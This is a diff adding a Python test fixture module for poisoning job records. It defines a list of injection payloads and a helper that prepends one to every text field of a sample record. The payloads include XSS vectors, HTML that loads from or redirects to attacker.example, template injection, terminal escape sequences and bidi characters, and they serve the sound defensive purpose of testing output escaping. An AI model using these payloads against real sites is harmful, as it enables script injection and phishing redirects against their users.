@@ -1,0 +1,86 @@
+"""Texts that try to become more than text, and records with one of them in every field."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import fields, is_dataclass, replace
+from typing import Any
+
+from tests.reports.sample_job import sample_job
+from tuning.records import JobRecord
+
+PAYLOADS = (
+    "<script>window.pwned=1</script>",
+    "</script><script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1></svg>",
+    "</title><script>window.pwned=1</script>",
+    "</style><script>window.pwned=1</script>",
+    "</textarea></details></main></body><h1>SHIP IT</h1>",
+    '"><b onmouseover=window.pwned=1>x</b>',
+    "' autofocus onfocus=window.pwned=1 x='",
+    '" style="position:fixed;inset:0" x="',
+    "`><img src=`x` onerror=window.pwned=1>",
+    "<a href=javascript:window.pwned=1>x</a>",
+    "javascript:window.pwned=1",
+    "data:text/html,<script>window.pwned=1</script>",
+    "<iframe src=https://attacker.example/></iframe>",
+    "<link rel=stylesheet href=//attacker.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
+    "<base href=https://attacker.example/>",
+    "<form action=https://attacker.example><input name=q></form>",
+    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
+    "<!-- --!> <script>window.pwned=1</script> -->",
+    "<![CDATA[<script>window.pwned=1</script>]]>",
+    "<template><script>window.pwned=1</script></template>",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#60;script&#62;&amp;&quot;&apos;",
+    "{{ 7 * 7 }}{% for x in page %}{{ x }}{% endfor %}{# #}",
+    "${window.pwned=1} <%= 1 %> #{1} {{constructor.constructor('window.pwned=1')()}}",
+    "\x1b[2J\x1b[31mred\x1b]8;;https://attacker.example\x07link\x1b]8;;\x07",
+    "\x00\x01\x08\x0b\x0c\x7f\x9b31m",
+    "\u202e\u2066\u2067\u200f rlo \u2069\u202c",
+    "\ud800 lone \udfff surrogates \udc41",
+    "\ufeff\u2028\u2029\u200b\ufff9\ufffe\U000e0041",
+    "[bold red]rich[/] [link=https://attacker.example]x[/link]",
+    "| pipe \\| pipe \\\\| | --- |",
+    "``` fence ```` ~~~ `tick` `` two ``",
+    "@octocat @org/team #1 GH-1 owner/repo#2 a@attacker.example",
+    "![i](https://attacker.example/p.png) [l](javascript:window.pwned=1) <https://attacker.example>",
+    "https://attacker.example www.attacker.example :rocket: $x$ **b** __b__ ~~s~~",
+    "# heading\n## SHIP IT\n- item\n1. one\n> quote\n---\n===\n<details open>",
+    "line\r\nline\rline\tTab\n\n\n",
+    "A" * 5_000,
+    "e\u0301\u0489" * 300 + "Z\u0335\u0336\u0337" * 200,
+)
+
+# Fields whose values are words of the records' own, not text from anywhere.
+FIXED = {"status", "level", "result", "split", "finish_reason", "role", "demonstrations"}
+
+
+def poisoned(payload: str, job: JobRecord | None = None) -> JobRecord:
+    """A whole job with `payload` before every text: names, keys, inputs, outputs, reasons.
+
+    The same text always becomes the same text, so that ids still refer to each other.
+    """
+    record = job or sample_job(test_cases=14, dev_cases=4, guard_cases=4)
+    poison: JobRecord = _poison(payload, record)
+    return poison
+
+
+def _poison(payload: str, value: Any) -> Any:
+    if isinstance(value, str):
+        return payload + value
+    if isinstance(value, Mapping):
+        return {_poison(payload, key): _poison(payload, item) for key, item in value.items()}
+    if isinstance(value, tuple | list):
+        return type(value)(_poison(payload, item) for item in value)
+    if not is_dataclass(value) or isinstance(value, type):
+        return value
+    changed = {}
+    for field in fields(value):
+        old = getattr(value, field.name)
+        verdict = field.name == "verdict" and type(value).__name__ != "RuleLine"
+        if field.name not in FIXED and not verdict:
+            changed[field.name] = _poison(payload, old)
+    return replace(value, **changed)
